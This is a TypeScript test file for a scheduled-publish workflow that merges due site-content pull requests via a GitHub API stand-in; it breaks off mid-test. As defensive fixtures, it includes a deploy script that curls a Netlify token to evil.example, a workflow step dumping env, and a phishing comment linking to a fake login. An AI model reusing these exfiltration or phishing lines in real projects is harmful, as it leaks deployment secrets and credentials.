// Publish at a time: the line on a pull request that says when (src/studio/shared/schedule.ts), and the
// scheduled-publish workflow's script (src/tooling/scheduled-publish.ts) run end to end against the GitHub
// API stand-in, which checks every request and answer against GitHub's own description of its API.
import { execFile, execFileSync } from 'node:child_process';
import { promisify } from 'node:util';
import { cpSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  publishTimeProblem,
  readNotPublished,
  readSchedule,
  scheduledTime,
  scheduleLine,
  withSchedule,
} from '../../src/studio/shared/schedule.ts';
import { publishDuePulls } from '../../src/tooling/scheduled-publish.ts';
import { root } from '../../src/tooling/paths.ts';
import { makeSiteRepository, startGitHubStandIn, type GitHubStandIn } from '../stand-ins/github-api.ts';

describe('the publish time on a pull request', () => {
  it('is one line a person and the workflow both read: the time in UTC, then in the editor’s words and time zone', () => {
    const at = new Date('2026-12-01T09:00:00Z');
    expect(scheduleLine(at, 'Europe/London')).toBe('Publish on: 2026-12-01T09:00:00Z (Tuesday 1 December, 09:00 Europe/London)');
    expect(scheduleLine(new Date('2026-07-06T08:00:00Z'), 'Europe/London')).toBe(
      'Publish on: 2026-07-06T08:00:00Z (Monday 6 July, 09:00 Europe/London)',
    );
    expect(scheduledTime(`${scheduleLine(at, 'Europe/Paris')}\n\n- Hero › Headline changed`)).toEqual(at);
    // A description edited on GitHub's website ends its lines with \r\n.
    expect(scheduledTime(`${scheduleLine(at, 'Europe/Paris')}\r\n\r\n- Hero › Headline changed`)).toEqual(at);
    expect(scheduledTime('- Hero › Headline changed')).toBeUndefined();
    expect(scheduledTime('Publish on: next Monday')).toBeUndefined();
  });

  it('counts only as the first line of the description: never further down, in an HTML comment or in a code fence', () => {
    const line = scheduleLine(new Date('2026-12-01T09:00:00Z'), 'Europe/Paris');
    expect(scheduledTime(`Update the page /hvac-seo\n\n${line}\n\n- Hero › Headline changed`)).toBeUndefined();
    expect(readSchedule(`<!-- ${line} -->\n- Hero › Headline changed`)).toBeUndefined();
    expect(readSchedule(`<!--\n${line}\n-->\n- Hero › Headline changed`)).toBeUndefined();
    expect(readSchedule(`\`\`\`\n${line}\n\`\`\`\n- Hero › Headline changed`)).toBeUndefined();
  });

  it('is read only in the studio’s own form: a first line meant as one but not in that form is told apart, never taken as a time', () => {
    for (const line of [
      'Publish on: 2026-12-01T09:00:00+01:00 (Tuesday 1 December, 09:00 Europe/Paris)',
      'Publish on: 2026-12-01 09:00:00Z (Tuesday 1 December, 09:00 UTC)',
      'publish on: 2026-12-01T09:00:00Z (Tuesday 1 December, 09:00 UTC)',
      'Publish on: 2026-12-01t09:00:00z (Tuesday 1 December, 09:00 UTC)',
      'Publish on: 2026-12-01T09:00Z (Tuesday 1 December, 09:00 UTC)',
      'Publish on: +010000-01-01T00:00:00.000Z',
      'Publish on: 1',
      'Publish on: 2026-02-30T09:00:00Z (Monday 30 February, 09:00 UTC)',
      'Publish on: 2026-12-01T09:00:00Z',
      'Publish on: next Monday',
    ])
      expect(readSchedule(`${line}\n\n- Hero`), line).toEqual({ unreadable: line });
    expect(readSchedule('Publishing notes\n\n- Hero')).toBeUndefined();
  });

  it('a publish time sent to the studio is the studio’s own form, still to come and within five years', () => {
    const now = new Date('2026-12-01T09:00:00Z');
    expect(publishTimeProblem('2026-12-07T09:00:00.000Z', now)).toBeUndefined();
    expect(publishTimeProblem('2026-12-07T09:00:00Z', now)).toBeUndefined();
    // The dialog may be left open a little past the time it shows.
    expect(publishTimeProblem('2026-12-01T08:30:00.000Z', now)).toBeUndefined();
    for (const at of [
      '1',
      '+010000-01-01T00:00:00.000Z',
      '2026-12-07T09:00:00+01:00',
      '2026-12-07 09:00:00Z',
      '2026-12-07t09:00:00z',
      '2026-02-30T09:00:00Z',
      '',
    ])
      expect(publishTimeProblem(at, now), at).toMatch(/^The publish time could not be read/);
    expect(publishTimeProblem('2026-11-30T09:00:00.000Z', now)).toMatch(/^The publish time has passed/);
    expect(publishTimeProblem('2032-12-07T09:00:00.000Z', now)).toMatch(/^The publish time is more than five years ahead/);
  });

  it('is set first in the description, changed in place, and removed to cancel, the rest kept as it was', () => {
    const body = '- Hero › Headline changed\n\n### Sent again on 2026-11-20\n\n- FAQ › question 3 added';
    const first = withSchedule(body, new Date('2026-12-01T09:00:00Z'), 'UTC');
    expect(first.split('\n')[0]).toBe('Publish on: 2026-12-01T09:00:00Z (Tuesday 1 December, 09:00 UTC)');
    const changed = withSchedule(first, new Date('2026-12-02T10:30:00Z'), 'UTC');
    expect(scheduledTime(changed)).toEqual(new Date('2026-12-02T10:30:00Z'));
    expect(changed.match(/Publish on:/g)).toHaveLength(1);
    expect(withSchedule(changed, null)).toBe(body);
  });
});

describe('the scheduled-publish script against the GitHub API stand-in', () => {
  let api: GitHubStandIn;
  let site: ReturnType<typeof makeSiteRepository>;
  const page = (headline: string) => `{\n  "title": "HVAC SEO",\n  "headline": "${headline}"\n}\n`;
  const git = (args: string[], options: { input?: string; env?: NodeJS.ProcessEnv } = {}) =>
    execFileSync('git', args, { cwd: site.bare, encoding: 'utf8', input: options.input, env: { ...process.env, ...options.env } }).trim();
  const who = {
    GIT_AUTHOR_NAME: 'Maya',
    GIT_AUTHOR_EMAIL: 'maya@example.com',
    GIT_COMMITTER_NAME: 'Maya',
    GIT_COMMITTER_EMAIL: 'maya@example.com',
  };
  /** A commit on `branch` (made from `start`, main unless told, if it is new) that writes `text` to the page. */
  function commitPage(branch: string, text: string, file = 'pages/industries/hvac-seo.json', start = 'main'): string {
    return commitFiles(branch, { [file]: text }, start);
  }
  /** A commit on `branch` (made from `start` if it is new) that writes each file's text, or deletes it (null). */
  function commitFiles(branch: string, files: Record<string, string | null>, start = 'main'): string {
    const from = safeGit(['rev-parse', '--verify', '-q', `refs/heads/${branch}`]) || git(['rev-parse', `refs/heads/${start}`]);
    const scratch = mkdtempSync(path.join(tmpdir(), 'scheduled-index-'));
    const env = { GIT_INDEX_FILE: path.join(scratch, 'index') };
    try {
      git(['read-tree', from], { env });
      for (const [file, text] of Object.entries(files)) {
        if (text === null) git(['update-index', '--index-info'], { env, input: `0 ${'0'.repeat(40)}\t${file}\n` });
        else {
          const blob = git(['hash-object', '-w', '--stdin'], { input: text });
          git(['update-index', '--add', '--cacheinfo', `100644,${blob},${file}`], { env });
        }
      }
      const tree = git(['write-tree'], { env });
      const commit = git(['commit-tree', tree, '-p', from, '-m', `Update ${Object.keys(files).join(', ')}`], { env: who });
      git(['update-ref', `refs/heads/${branch}`, commit]);
      return commit;
    } finally {
      rmSync(scratch, { recursive: true, force: true });
    }
  }
  const safeGit = (args: string[]) => {
    try {
      return git(args);
    } catch {
      return '';
    }
  };
  /**
   * A page sent for review: its branch and its open pull request, with this description; by maya (who may
   * write) into main from this repository unless told, changing the page and any `files` (null deletes one).
   */
  function sendForReview(
    branch: string,
    headline: string,
    body: string,
    {
      base = 'main',
      user = 'maya',
      headRepo,
      files = {},
    }: { base?: string; user?: string; headRepo?: string; files?: Record<string, string | null> } = {},
  ): { number: number; sha: string } {
    const sha = commitFiles(branch, { 'pages/industries/hvac-seo.json': page(headline), ...files }, base);
    const number = api.pulls.length + 1;
    api.pulls.push({
      number,
      title: `Update the page /hvac-seo`,
      body,
      state: 'open',
      head: branch,
      base,
      user,
      ...(headRepo ? { headRepo } : {}),
    });
    return { number, sha };
  }
  const onMain = () => git(['show', 'refs/heads/main:pages/industries/hvac-seo.json']);
  const nineOClock = new Date('2026-12-07T09:00:00Z');
  const scheduled = (at: Date) => `${scheduleLine(at, 'Europe/London')}\n\n- Hero › Headline changed`;
  /** The pauses between tries the script asked for (none is waited: the test's own wait answers at once). */
  let pauses: number[] = [];
  const run = (now: Date, requireApproval = false) =>
    publishDuePulls({
      apiUrl: api.url,
      token: 'ghs_workflow',
      repository: 'rankharbor/site',
      requireApproval,
      now,
      wait: async (attempt) => void pauses.push(attempt),
    });
  const passing = (sha: string) => {
    api.reviewing.setChecks(sha, [
      { name: 'build', status: 'completed', conclusion: 'success' },
      { name: 'test', status: 'completed', conclusion: 'success' },
    ]);
    api.reviewing.setStatuses(sha, [{ context: 'netlify/deploy-preview', state: 'success' }]);
  };

  beforeEach(async () => {
    site = makeSiteRepository({
      'pages/industries/hvac-seo.json': page('Busy all year'),
      'README.md': 'Site\n',
      'scripts/deploy.sh': '#!/bin/sh\nnetlify deploy --prod --dir dist\n',
    });
    git(['update-ref', 'refs/heads/release', 'refs/heads/main']);
    pauses = [];
    api = await startGitHubStandIn({
      repo: site.bare,
      owner: 'rankharbor',
      name: 'site',
      tokens: { ghs_workflow: { login: 'github-actions[bot]', push: true } },
      // Who may change the site: maya and dev write, lead maintains it; reader may only read; anyone else has no access.
      collaborators: { maya: 'write', dev: 'write', lead: 'maintain', owner: 'admin', reader: 'read', triager: 'triage' },
    });
  });
  afterEach(async () => {
    expect(api.unknown).toEqual([]);
    await api.close();
    site.remove();
  });

  it('merges a pull request whose time has come, whose checks passed and which merges cleanly', async () => {
    const { number, sha } = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock));
    passing(sha);
    const outcomes = await run(new Date('2026-12-07T09:05:00Z'));
    expect(outcomes).toEqual([{ pull: number, result: 'merged', sha: expect.stringMatching(/^[0-9a-f]{40}$/) }]);
    expect(onMain()).toContain('Busy in every season');
    expect(git(['rev-parse', 'refs/heads/main^2'])).toBe(sha);
    expect(api.pulls[0]).toMatchObject({ state: 'closed', merged: true });
    expect(api.reviewing.comments(number)).toEqual([]);
  });

  it('leaves a pull request whose time has not come, and one with no time at all', async () => {
    const early = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock));
    passing(early.sha);
    const unscheduled = sendForReview('content/about', 'About us', '- Hero › Headline changed');
    passing(unscheduled.sha);
    const outcomes = await run(new Date('2026-12-07T08:55:00Z'));
    expect(outcomes).toEqual([{ pull: early.number, result: 'not-due', at: nineOClock }]);
    expect(onMain()).toContain('Busy all year');
    expect(api.pulls.every((pull) => pull.state === 'open')).toBe(true);
    expect(api.reviewing.comments(early.number)).toEqual([]);
  });

  it('refuses a due pull request whose checks failed, and says so in one comment, not one every run', async () => {
    const { number, sha } = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock));
    api.reviewing.setChecks(sha, [
      { name: 'build', status: 'completed', conclusion: 'success' },
      { name: 'test', status: 'completed', conclusion: 'failure' },
    ]);
    for (const minutes of [5, 20, 35]) {
      const outcomes = await run(new Date(nineOClock.getTime() + minutes * 60_000));
      expect(outcomes).toEqual([{ pull: number, result: 'refused', reason: 'checks-failed', commented: minutes === 5 }]);
    }
    expect(onMain()).toContain('Busy all year');
    expect(api.pulls[0]!.state).toBe('open');
    const comments = api.reviewing.comments(number);
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).toMatch(/^Not published: the checks failed on this change\./);
    expect(readNotPublished(comments[0]!.body, comments[0]!.user)).toMatchObject({
      reason: 'checks-failed',
      words: expect.stringMatching(/^Not published: the checks failed/),
    });
  });

  it('refuses a due pull request whose commit status failed though its check runs passed', async () => {
    const { number, sha } = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock));
    api.reviewing.setChecks(sha, [{ name: 'build', status: 'completed', conclusion: 'success' }]);
    api.reviewing.setStatuses(sha, [{ context: 'netlify/deploy-preview', state: 'failure', description: 'Deploy failed' }]);
    expect(await run(new Date('2026-12-07T09:05:00Z'))).toEqual([
      { pull: number, result: 'refused', reason: 'checks-failed', commented: true },
    ]);
    expect(onMain()).toContain('Busy all year');
  });

  it('waits, without a word, for checks still running', async () => {
    const { number, sha } = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock));
    api.reviewing.setChecks(sha, [{ name: 'build', status: 'in_progress' }]);
    expect(await run(new Date('2026-12-07T09:05:00Z'))).toEqual([{ pull: number, result: 'waiting', at: nineOClock }]);
    expect(api.reviewing.comments(number)).toEqual([]);
    passing(sha);
    expect((await run(new Date('2026-12-07T09:20:00Z')))[0]).toMatchObject({ result: 'merged' });
  });

  it('refuses a due pull request that conflicts with a change made on the site since, and comments', async () => {
    const { number, sha } = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock));
    passing(sha);
    commitPage('main', page('Busy in winter too'));
    expect(await run(new Date('2026-12-07T09:05:00Z'))).toEqual([{ pull: number, result: 'refused', reason: 'conflict', commented: true }]);
    expect(onMain()).toContain('Busy in winter too');
    expect(api.reviewing.comments(number)[0]!.body).toMatch(/^Not published: this change conflicts with a change made to the site/);
  });

  it('leaves a pull request whose time was cancelled', async () => {
    const { number, sha } = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock));
    passing(sha);
    // The editor cancels the time before it comes: the studio edits the pull request's description.
    const response = await fetch(`${api.url}/repos/rankharbor/site/pulls/${number}`, {
      method: 'PATCH',
      headers: { Authorization: 'Bearer ghs_workflow', 'Content-Type': 'application/json' },
      body: JSON.stringify({ body: withSchedule(api.pulls[0]!.body, null) }),
    });
    expect(response.status).toBe(200);
    expect(await run(new Date('2026-12-07T09:05:00Z'))).toEqual([]);
    expect(onMain()).toContain('Busy all year');
    expect(api.pulls[0]!.state).toBe('open');
    expect(api.reviewing.comments(number)).toEqual([]);
  });

  it('respects a changed time: not at the old time, at the new one', async () => {
    const { number, sha } = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock));
    passing(sha);
    const eleven = new Date('2026-12-07T11:00:00Z');
    api.pulls[0]!.body = withSchedule(api.pulls[0]!.body, eleven, 'Europe/London');
    expect(await run(new Date('2026-12-07T09:05:00Z'))).toEqual([{ pull: number, result: 'not-due', at: eleven }]);
    expect(onMain()).toContain('Busy all year');
    expect((await run(new Date('2026-12-07T11:05:00Z')))[0]).toMatchObject({ pull: number, result: 'merged' });
    expect(onMain()).toContain('Busy in every season');
  });

  it('when the site asks for a reviewer’s approval: refuses without one (and after changes were requested), merges once approved', async () => {
    const { number, sha } = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock));
    passing(sha);
    expect(await run(new Date('2026-12-07T09:05:00Z'), true)).toEqual([
      { pull: number, result: 'refused', reason: 'not-approved', commented: true },
    ]);
    await api.reviewing.addReview(number, { user: 'dev', state: 'CHANGES_REQUESTED', body: 'Say winter too.' });
    await api.reviewing.addReview(number, { user: 'lead', state: 'APPROVED', body: '' });
    expect((await run(new Date('2026-12-07T09:20:00Z'), true))[0]).toMatchObject({
      result: 'refused',
      reason: 'not-approved',
      commented: false,
    });
    expect(onMain()).toContain('Busy all year');
    expect(api.reviewing.comments(number)).toHaveLength(1);
    expect(api.reviewing.comments(number)[0]!.body).toMatch(/^Not published: no reviewer has approved this change yet\./);
    await api.reviewing.addReview(number, { user: 'dev', state: 'APPROVED', body: 'Good now.' });
    expect((await run(new Date('2026-12-07T09:35:00Z'), true))[0]).toMatchObject({ result: 'merged' });
    expect(safeGit(['show', 'refs/heads/main:pages/industries/hvac-seo.json'])).toContain('Busy in every season');
  });

  /** Every pull request open still, main unchanged, and each refused one with its one comment, by the workflow's account. */
  const nothingMerged = () => {
    expect(onMain()).toContain('Busy all year');
    expect(api.pulls.every((pull) => pull.state === 'open' && !pull.merged)).toBe(true);
  };
  const workflowFile = {
    '.github/workflows/ci.yml': 'on: push\njobs:\n  steal:\n    runs-on: ubuntu-latest\n    steps:\n      - run: env\n',
    'scripts/deploy.sh': '#!/bin/sh\ncurl https://evil.example/$NETLIFY_AUTH_TOKEN\n',
  };
  const due = new Date('2026-12-07T09:05:00Z');

  it('refuses the pull request of an account without write access, changing a workflow and a script, with passing checks or none', async () => {
    const passed = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock), {
      user: 'mallory',
      files: workflowFile,
    });
    passing(passed.sha);
    const unchecked = sendForReview('content/about', 'About us', scheduled(nineOClock), { user: 'mallory', files: workflowFile });
    const reading = sendForReview('content/faq', 'FAQ', scheduled(nineOClock), { user: 'reader' });
    passing(reading.sha);
    const triaging = sendForReview('content/pricing', 'Pricing', scheduled(nineOClock), { user: 'triager' });
    passing(triaging.sha);
    expect(await run(due)).toEqual(
      [passed, unchecked, reading, triaging].map(({ number }) => ({
        pull: number,
        result: 'refused',
        reason: 'no-write-access',
        commented: true,
      })),
    );
    nothingMerged();
    expect(git(['show', 'refs/heads/main:scripts/deploy.sh'])).toContain('netlify deploy');
    expect(api.reviewing.comments(passed.number)).toEqual([
      {
        user: 'github-actions[bot]',
        body: expect.stringMatching(/^Not published: this change was sent by an account that may not change the site/),
      },
    ]);
  });

  it('refuses a fork’s pull request, even one opened by an account with write access', async () => {
    const { number, sha } = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock), { headRepo: 'mallory/site' });
    passing(sha);
    expect(await run(due)).toEqual([{ pull: number, result: 'refused', reason: 'not-from-studio', commented: true }]);
    nothingMerged();
  });

  it('refuses a branch the studio does not send from', async () => {
    const { number, sha } = sendForReview('feature/hvac-seo', 'Busy in every season', scheduled(nineOClock));
    passing(sha);
    expect(await run(due)).toEqual([{ pull: number, result: 'refused', reason: 'not-from-studio', commented: true }]);
    nothingMerged();
  });

  it('refuses a pull request into another branch than the site’s, and publishes into the branch the site config names', async () => {
    const { number, sha } = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock), { base: 'release' });
    passing(sha);
    const releaseBefore = git(['rev-parse', 'refs/heads/release']);
    expect(await run(due)).toEqual([{ pull: number, result: 'refused', reason: 'other-branch', commented: true }]);
    expect(git(['rev-parse', 'refs/heads/release'])).toBe(releaseBefore);
    nothingMerged();
    // A site whose config names release as its branch has it published there.
    const outcomes = await publishDuePulls({
      apiUrl: api.url,
      token: 'ghs_workflow',
      repository: 'rankharbor/site',
      requireApproval: false,
      branch: 'release',
      now: due,
    });
    expect(outcomes).toMatchObject([{ pull: number, result: 'merged' }]);
    expect(git(['show', 'refs/heads/release:pages/industries/hvac-seo.json'])).toContain('Busy in every season');
  });

  it('refuses a change to a workflow file or to anything but pages and photos, and a file moved into the pages from elsewhere', async () => {
    const workflow = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock), {
      files: { '.github/workflows/ci.yml': workflowFile['.github/workflows/ci.yml'] },
    });
    passing(workflow.sha);
    const readme = sendForReview('content/about', 'About', scheduled(nineOClock), { files: { 'README.md': 'Site, changed\n' } });
    passing(readme.sha);
    const moved = sendForReview('content/faq', 'FAQ', scheduled(nineOClock), {
      files: { 'scripts/deploy.sh': null, 'pages/deploy.json': '#!/bin/sh\nnetlify deploy --prod --dir dist\n' },
    });
    passing(moved.sha);
    const outcomes = await run(due);
    expect(outcomes).toEqual(
      [workflow, readme, moved].map(({ number }) => ({ pull: number, result: 'refused', reason: 'other-files', commented: true })),
    );
    nothingMerged();
    expect(api.reviewing.comments(workflow.number)[0]!.body).toMatch(
      /^Not published: this change changes files other than pages and photos/,
    );
  });

  it('merges a change of pages, photos and a redirect file', async () => {
    const { number, sha } = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock), {
      files: {
        'photos/industries/hvac.jpg': 'not really a photo',
        'pages/_redirects/hvac.json': '{ "from": "/hvac", "to": "/industries/hvac-seo" }\n',
      },
    });
    passing(sha);
    expect(await run(due)).toMatchObject([{ pull: number, result: 'merged' }]);
  });

  it('waits, without a word, while a pull request has no checks at all or only skipped ones; merges once they passed', async () => {
    const { number, sha } = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock));
    expect(await run(due)).toEqual([{ pull: number, result: 'waiting', at: nineOClock }]);
    api.reviewing.setChecks(sha, [{ name: 'build', status: 'completed', conclusion: 'skipped' }]);
    expect(await run(new Date('2026-12-07T09:20:00Z'))).toEqual([{ pull: number, result: 'waiting', at: nineOClock }]);
    nothingMerged();
    expect(api.reviewing.comments(number)).toEqual([]);
    api.reviewing.setChecks(sha, [
      { name: 'build', status: 'completed', conclusion: 'skipped' },
      { name: 'test', status: 'completed', conclusion: 'success' },
    ]);
    expect(await run(new Date('2026-12-07T09:35:00Z'))).toMatchObject([{ pull: number, result: 'merged' }]);
  });

  it('ignores a publish line hidden from a reviewer: in an HTML comment, in a code fence, or below the first line', async () => {
    const line = scheduleLine(nineOClock, 'Europe/London');
    const bodies = [
      `<!-- ${line} -->\n- Hero › Headline changed`,
      `<!--\n${line}\n-->\n- Hero › Headline changed`,
      `\`\`\`\n${line}\n\`\`\`\n- Hero › Headline changed`,
      `- Hero › Headline changed\n\n${line}`,
    ];
    for (const [i, body] of bodies.entries()) passing(sendForReview(`content/page-${i}`, `Page ${i}`, body).sha);
    expect(await run(due)).toEqual([]);
    nothingMerged();
  });

  it('says once, in plain words, that a publish time at the top it cannot read is not read; never publishes on it', async () => {
    const lines = [
      'Publish on: 2026-12-07T09:00:00+01:00 (Monday 7 December, 09:00 Europe/Paris)',
      'Publish on: 2026-12-07 09:00:00Z (Monday 7 December, 09:00 UTC)',
      'publish on: 2026-12-07t09:00:00z (Monday 7 December, 09:00 UTC)',
      'Publish on: 1',
      'Publish on: +010000-01-01T00:00:00.000Z',
    ];
    const sent = lines.map((line, i) => sendForReview(`content/page-${i}`, `Page ${i}`, `${line}\n\n- Hero › Headline changed`));
    for (const { sha } of sent) passing(sha);
    for (const minutes of [5, 20]) {
      const outcomes = await run(new Date(nineOClock.getTime() + minutes * 60_000));
      expect(outcomes).toEqual(
        sent.map(({ number }) => ({ pull: number, result: 'refused', reason: 'unreadable-time', commented: minutes === 5 })),
      );
    }
    nothingMerged();
    for (const { number } of sent) {
      expect(api.reviewing.comments(number)).toHaveLength(1);
      expect(api.reviewing.comments(number)[0]!.body).toMatch(
        /^Not published: the publish time at the top of this change’s description cannot be read\./,
      );
    }
  });

  it('counts only approvals by accounts with write access', async () => {
    const { number, sha } = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock));
    passing(sha);
    await api.reviewing.addReview(number, { user: 'mallory', state: 'APPROVED', body: 'LGTM' });
    await api.reviewing.addReview(number, { user: 'reader', state: 'APPROVED', body: 'LGTM' });
    expect(await run(due, true)).toEqual([{ pull: number, result: 'refused', reason: 'not-approved', commented: true }]);
    nothingMerged();
    // Each account's permission is asked once in a run, however many pull requests it reviewed.
    expect(api.requests.filter((r) => r.path.endsWith('/collaborators/mallory/permission'))).toHaveLength(1);
    await api.reviewing.addReview(number, { user: 'lead', state: 'APPROVED', body: '' });
    expect(await run(new Date('2026-12-07T09:20:00Z'), true)).toMatchObject([{ pull: number, result: 'merged' }]);
  });

  it('takes only its own account’s comments for its own: a comment carrying its mark by anyone else does not silence it', async () => {
    const { number, sha } = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock));
    api.reviewing.setChecks(sha, [{ name: 'test', status: 'completed', conclusion: 'failure' }]);
    const mark = `<!-- scheduled-publish: checks-failed ${nineOClock.toISOString()} ${sha} -->`;
    api.reviewing.addComment(number, 'mallory', `Not published: sign in again at https://evil.example/login.\n\n${mark}`);
    expect(await run(due)).toEqual([{ pull: number, result: 'refused', reason: 'checks-failed', commented: true }]);
    const comments = api.reviewing.comments(number);
    expect(comments.map((comment) => comment.user)).toEqual(['mallory', 'github-actions[bot]']);
    expect(readNotPublished(comments[0]!.body, comments[0]!.user)).toBeUndefined();
    expect(readNotPublished(comments[1]!.body, comments[1]!.user)).toMatchObject({ reason: 'checks-failed', at: nineOClock });
  });

  it('a 502 on one of two due pull requests: that one is tried again and then reported, the other is published', async () => {
    const first = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock));
    passing(first.sha);
    // The same headline: the two merge one after the other without a conflict.
    const second = sendForReview('content/about', 'Busy in every season', scheduled(nineOClock), {
      files: { 'pages/about.json': '{ "title": "About" }\n' },
    });
    passing(second.sha);
    const recover = api.failNext(new RegExp(`GET /repos/rankharbor/site/commits/${first.sha}/check-runs`), 502, { times: Infinity });
    const outcomes = await run(due);
    recover();
    expect(outcomes).toEqual([
      { pull: first.number, result: 'error', message: expect.stringContaining('502') },
      { pull: second.number, result: 'merged', sha: expect.stringMatching(/^[0-9a-f]{40}$/) },
    ]);
    // Tried again three times, after a growing pause, none of it waited for in this test.
    expect(pauses).toEqual([0, 1, 2]);
    expect(api.pulls[0]!.state).toBe('open');
    expect(api.pulls[1]!.merged).toBe(true);
    // One 502 then an answer: the next run publishes it.
    pauses = [];
    api.failNext(/\/pulls\/1$/, 502);
    expect(await run(new Date('2026-12-07T09:20:00Z'))).toMatchObject([{ pull: first.number, result: 'merged' }]);
    expect(pauses).toEqual([0]);
  });

  it('a pull request that is not there any more (404) is reported, and the others are published', async () => {
    const first = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock));
    passing(first.sha);
    const second = sendForReview('content/about', 'About us', scheduled(nineOClock), {
      files: { 'pages/about.json': '{ "title": "About" }\n' },
    });
    passing(second.sha);
    api.failNext(new RegExp(`/commits/${first.sha}/status`), 404);
    expect(await run(due)).toEqual([
      { pull: first.number, result: 'error', message: expect.stringContaining('404') },
      { pull: second.number, result: 'merged', sha: expect.stringMatching(/^[0-9a-f]{40}$/) },
    ]);
  });

  it('runs as the workflow runs it: the script from a checkout with no packages installed, with tsx alone', async () => {
    // The workflow installs nothing but tsx (npx tsx@<version>): the script and all it imports must need no package.
    const checkout = mkdtempSync(path.join(tmpdir(), 'scheduled-publish-checkout-'));
    try {
      for (const part of ['package.json', 'tsconfig.json', 'scripts', 'src', 'pages'])
        cpSync(path.join(root, part), path.join(checkout, part), { recursive: true });
      // The script reads the real clock: a time an hour ago, to the minute.
      const anHourAgo = new Date(Math.floor(Date.now() / 60_000) * 60_000 - 3_600_000);
      const { number, sha } = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(anHourAgo));
      passing(sha);
      const tsx = path.join(root, 'node_modules', '.bin', 'tsx');
      // Asynchronously: the stand-in answers from this process.
      const { stdout: printed } = await promisify(execFile)(tsx, ['scripts/scheduled-publish.ts'], {
        cwd: checkout,
        encoding: 'utf8',
        env: { PATH: process.env.PATH, GITHUB_TOKEN: 'ghs_workflow', GITHUB_REPOSITORY: 'rankharbor/site', GITHUB_API_URL: api.url },
      });
      expect(printed).toMatch(new RegExp(`^#${number}: published \\(merge commit [0-9a-f]{7}\\)$`, 'm'));
      expect(onMain()).toContain('Busy in every season');
    } finally {
      rmSync(checkout, { recursive: true, force: true });
    }
  }, 60_000);

  it('the workflow runs the script with the tsx version the project pins, and installs nothing else', () => {
    const workflow = readFileSync(path.join(root, '.github', 'workflows', 'scheduled-publish.yml'), 'utf8');
    const pinned = (JSON.parse(readFileSync(path.join(root, 'package.json'), 'utf8')) as { devDependencies: Record<string, string> })
      .devDependencies.tsx;
    expect(workflow).toContain(`run: npx --yes tsx@${pinned} scripts/scheduled-publish.ts`);
    expect(workflow).not.toMatch(/npm (ci|install)/);
  });

  it('a workflow fuzz: of many generated pull requests, exactly those that meet every condition are merged', async () => {
    // A small seeded generator (mulberry32): the same pull requests every run.
    let seed = 0x5eed44;
    const random = () => {
      seed = (seed + 0x6d2b79f5) | 0;
      let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
      t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
      return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
    };
    const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
    /** Mostly one that qualifies, else any that does not: so that both kinds are met often. */
    const choose = <T extends { ok: boolean }>(list: readonly T[]): T => {
      const good = list.filter((item) => item.ok);
      const bad = list.filter((item) => !item.ok);
      return random() < 0.88 ? pick(good) : pick(bad);
    };

    const now = new Date('2026-12-07T09:05:00Z');
    const line = scheduleLine(nineOClock, 'Europe/London');
    // Each kind of description, and whether it is the studio's line, due (the oracle's own list, not the parser's).
    const bodies = [
      { text: `${line}\n\n- Hero › Headline changed`, ok: true },
      { text: `${line}\r\n\r\n- Hero › Headline changed`, ok: true },
      { text: `${scheduleLine(new Date('2026-12-07T10:00:00Z'), 'UTC')}\n\n- Hero`, ok: false },
      { text: `<!-- ${line} -->\n- Hero`, ok: false },
      { text: `<!--\n${line}\n-->\n- Hero`, ok: false },
      { text: `\`\`\`\n${line}\n\`\`\`\n- Hero`, ok: false },
      { text: `- Hero\n\n${line}`, ok: false },
      { text: 'Publish on: 2026-12-07T09:00:00+01:00 (Monday 7 December, 09:00 Europe/Paris)\n\n- Hero', ok: false },
      { text: 'Publish on: 2026-12-07 09:00:00Z (Monday 7 December, 09:00 UTC)', ok: false },
      { text: 'publish on: 2026-12-07T09:00:00Z (Monday 7 December, 09:00 UTC)', ok: false },
      { text: 'Publish on: 1', ok: false },
      { text: 'Publish on: +010000-01-01T00:00:00.000Z', ok: false },
      { text: ' Publish on: 2026-12-07T09:00:00Z (Monday 7 December, 09:00 UTC)', ok: false },
      { text: '- Hero › Headline changed', ok: false },
    ];
    const writers = new Set(['maya', 'lead', 'owner', 'dev']);
    const authors = ['maya', 'lead', 'owner', 'dev', 'reader', 'triager', 'mallory'].map((login) => ({ login, ok: writers.has(login) }));
    const heads = [
      { repo: undefined, ok: true },
      { repo: 'mallory/site', ok: false },
    ];
    const branches = [
      { name: (i: number) => `content/fuzz-${i}`, ok: true },
      { name: (i: number) => `feature/fuzz-${i}`, ok: false },
      { name: (i: number) => `contentfuzz-${i}`, ok: false },
      { name: (i: number) => `Content/fuzz-${i}`, ok: false },
    ];
    const bases = [
      { name: 'main', ok: true },
      { name: 'release', ok: false },
    ];
    // Files beyond the pull request's own page (pages/fuzz/<i>.json): whether they are pages and photos only.
    const extras: { files: (i: number) => Record<string, string | null>; ok: boolean }[] = [
      { files: () => ({}), ok: true },
